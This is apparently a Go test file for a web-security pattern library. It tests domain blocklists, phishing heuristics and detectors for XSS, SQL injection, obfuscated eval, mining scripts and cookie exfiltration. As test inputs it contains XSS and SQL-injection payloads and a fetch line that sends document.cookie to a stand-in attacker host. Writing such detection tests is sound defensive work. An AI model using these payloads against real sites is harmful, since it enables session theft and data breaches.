package patterns

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestLibraryDomainSets(t *testing.T) {
	lib := Default()

	assert.True(t, lib.IsMalicious("virus-download.net"))
	assert.True(t, lib.IsMalicious("VIRUS-DOWNLOAD.NET."))
	assert.False(t, lib.IsMalicious("sub.virus-download.net"))
	assert.True(t, lib.IsPhishing("paypa1-secure.com"))
	assert.False(t, lib.IsPhishing("paypal.com"))
}

func TestLibraryExtraLists(t *testing.T) {
	lib := NewLibrary(Lists{
		MaliciousDomains: []string{"Evil.Example"},
		MalwareHashes:    []string{"ABCDEF"},
	})

	assert.True(t, lib.IsMalicious("evil.example"))
	assert.True(t, lib.IsKnownMalwareHash("abcdef"))
	assert.False(t, Default().IsMalicious("evil.example"), "default library must stay unchanged")
}

func TestDangerousExtensions(t *testing.T) {
	lib := Default()
	for _, name := range []string{"setup.exe", "INVOICE.PDF.EXE", "run.ps1", "payload.jar"} {
		assert.True(t, lib.IsDangerousExtension(name), name)
	}
	for _, name := range []string{"report.pdf", "photo.jpg", "README", ""} {
		assert.False(t, lib.IsDangerousExtension(name), name)
	}
}

func TestTrustedAndTrackerDomains(t *testing.T) {
	lib := Default()
	assert.True(t, lib.IsTrusted("github.com"))
	assert.True(t, lib.IsTrusted("en.wikipedia.org"))
	assert.False(t, lib.IsTrusted("notgithub.com"))

	assert.True(t, lib.IsTracker("analytics.example.com"))
	assert.True(t, lib.IsTracker("ads.example.com"))
	assert.True(t, lib.IsTracker("stats.g.doubleclick.net"))
	assert.False(t, lib.IsTracker("example.com"))
}

func TestHasSuspiciousShape(t *testing.T) {
	tests := []struct {
		host string
		want bool
	}{
		{"192.168.1.10", true},
		{"::1", true},
		{"login-secure-account.com", true},
		{"shop12345.com", true},
		{"averyveryverylonglabelname.com", true},
		{"example.com", false},
		{"my-site.org", false},
	}

	for _, tt := range tests {
		t.Run(tt.host, func(t *testing.T) {
			assert.Equal(t, tt.want, HasSuspiciousShape(tt.host))
		})
	}
}

func TestHasPhishingIndicators(t *testing.T) {
	assert.True(t, HasPhishingIndicators("https://paypal.account-check.com/verify"))
	assert.True(t, HasPhishingIndicators("https://login.example.com/apple/id/reset"))
	assert.False(t, HasPhishingIndicators("https://www.paypal.com/"))
	assert.False(t, HasPhishingIndicators("https://example.com/security"))
}

func TestInputPredicates(t *testing.T) {
	assert.True(t, MatchesXSS("<img src=x onerror=alert(1)>"))
	assert.True(t, MatchesXSS("<ScRiPt>alert(1)</script>"))
	assert.True(t, MatchesXSS("javascript:alert(1)"))
	assert.False(t, MatchesXSS("hello world"))

	assert.True(t, MatchesSQLInjection("' OR '1'='1"))
	assert.True(t, MatchesSQLInjection("1 UNION SELECT password FROM users"))
	assert.True(t, MatchesSQLInjection("admin'--"))
	assert.False(t, MatchesSQLInjection("hello world"))
}

func TestPredicatesOnLargeInput(t *testing.T) {
	input := strings.Repeat("<a ", 200000) + strings.Repeat("'or", 100000)
	assert.NotPanics(t, func() {
		MatchesXSS(input)
		MatchesSQLInjection(input)
		HasSuspiciousShape(strings.Repeat("a-", 100000))
	})
}

func TestContentHeuristics(t *testing.T) {
	assert.True(t, HasDynamicEval(`eval(atob("YWxlcnQoMSk="))`))
	assert.True(t, HasEncodedSequences(`"\x61\x6c\x65\x72\x74"`))
	assert.True(t, HasExfiltrationIndicators(`fetch("https://evil.test/?c=" + document.cookie)`))
	assert.False(t, HasExfiltrationIndicators(`console.log(document.cookie)`))
	assert.True(t, HasMiningIndicators(`var miner = new CoinHive.Anonymous("key")`))
	assert.True(t, HasMiningIndicators(`new Worker("w.js"); sha256(block)`))
	assert.False(t, HasMiningIndicators(`new Worker("w.js")`))
	assert.True(t, HasInsecureFormMarkup(`<form action="http://x.test/login"><input name=a></form>`))
	assert.True(t, HasInsecureFormMarkup(`<input type="password" name="pw">`))
	assert.False(t, HasInsecureFormMarkup(`<input type="password" autocomplete="off">`))
}

func TestSanitizationPatterns(t *testing.T) {
	html := "<p onclick=\"steal()\">hi</p><SCRIPT type=x>\nevil()\n</script>"
	out := ScriptBlock.ReplaceAllString(html, "")
	out = EventHandlerAttr.ReplaceAllString(out, "")
	assert.Equal(t, "<p>hi</p>", out)
	assert.Equal(t, `<a href="alert(1)">`, JavaScriptScheme.ReplaceAllString(`<a href="javascript:alert(1)">`, ""))
}
